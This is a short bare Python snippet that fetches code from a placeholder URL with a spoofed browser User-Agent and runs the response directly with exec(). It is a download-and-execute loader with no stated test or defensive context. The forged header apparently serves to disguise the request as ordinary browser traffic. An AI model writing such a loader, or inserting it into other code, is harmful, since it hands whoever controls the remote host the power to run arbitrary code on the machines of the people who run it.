import urllib.request
q = urllib.request.Request("https://u.invalid/s", headers={"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"})
code = urllib.request.urlopen(q).read()
exec(code)
